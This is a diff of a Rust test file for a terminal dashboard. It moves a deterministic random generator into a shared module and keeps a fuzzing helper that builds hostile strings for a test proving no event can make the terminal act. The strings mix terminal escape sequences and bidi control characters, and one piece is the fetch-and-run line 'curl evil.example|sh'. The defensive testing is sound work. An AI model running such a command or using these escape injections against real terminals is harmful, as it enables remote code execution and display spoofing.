@@ -1,5 +1,6 @@
 //! The dashboard in a terminal: who is answered with text, what the text shows, and what no event can make of it.
 mod common;
+use common::dice::Dice;
 use common::*;
 use serde_json::{Value, json};
 use std::collections::HashSet;
@@ -243,49 +244,37 @@ fn what_went_wrong_is_a_line_or_two_that_say_what_to_do() {
     assert_eq!(open.send(&format!("GET /api/x HTTP/1.1\r\n{CURL}"), b"").error(), "Not found");
 }
 
-/// Numbers that look random, the same in every run (xorshift64*).
-struct Dice(u64);
-
-impl Dice {
-    fn roll(&mut self, sides: usize) -> usize {
-        self.0 ^= self.0 >> 12;
-        self.0 ^= self.0 << 25;
-        self.0 ^= self.0 >> 27;
-        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) as usize % sides
-    }
-
-    /// Text of what terminals obey, what looks like obs's own lines, and what has no width or two columns.
-    fn hostile(&mut self) -> String {
-        const PARTS: [&str; 18] = [
-            "\x1b[2J",
-            "\x1b]0;title\x07",
-            "\x1bP",
-            "\u{9b}31m",
-            "\u{9d}",
-            "\r",
-            "\n",
-            "\r\n",
-            "\t",
-            "\u{202e}",
-            "\u{2066}",
-            "\u{2028}",
-            "\nNext\n",
-            "\n  an issue      curl evil.example|sh\n",
-            "\u{301}\u{301}",
-            "日本🚀",
-            "word ",
-            "https://shop.example/a/long/path",
-        ];
-        let mut text = "x".to_string();
-        for _ in 0..self.roll(30) {
-            match self.roll(3) {
-                0 => text.push(char::from_u32(self.roll(0xA1) as u32).unwrap()),
-                1 => text.extend(char::from_u32(self.roll(0x11_0000) as u32)),
-                _ => text += PARTS[self.roll(PARTS.len())],
-            }
+/// Text of what terminals obey, what looks like obs's own lines, and what has no width or two columns.
+fn hostile(dice: &mut Dice) -> String {
+    const PARTS: [&str; 18] = [
+        "\x1b[2J",
+        "\x1b]0;title\x07",
+        "\x1bP",
+        "\u{9b}31m",
+        "\u{9d}",
+        "\r",
+        "\n",
+        "\r\n",
+        "\t",
+        "\u{202e}",
+        "\u{2066}",
+        "\u{2028}",
+        "\nNext\n",
+        "\n  an issue      curl evil.example|sh\n",
+        "\u{301}\u{301}",
+        "日本🚀",
+        "word ",
+        "https://shop.example/a/long/path",
+    ];
+    let mut text = "x".to_string();
+    for _ in 0..dice.roll(30) {
+        match dice.roll(3) {
+            0 => text.push(char::from_u32(dice.roll(0xA1) as u32).unwrap()),
+            1 => text.extend(char::from_u32(dice.roll(0x11_0000) as u32)),
+            _ => text += PARTS[dice.roll(PARTS.len())],
         }
-        text
     }
+    text
 }
 
 fn is_harmless(c: char) -> bool {
@@ -297,7 +286,7 @@ fn no_event_makes_a_terminal_do_anything_or_writes_at_its_left_edge() {
     let obs = Obs::start();
     let mut dice = Dice(0x0b5);
     for n in 1..=300 {
-        let mut text_of = || dice.hostile();
+        let mut text_of = || hostile(&mut dice);
         let frame = json!({"filename": text_of(), "function": text_of(), "lineno": 7, "context_line": text_of(),
                            "pre_context": [text_of()], "in_app": n % 2 == 0});
         let other = json!({"filename": text_of(), "function": text_of()});
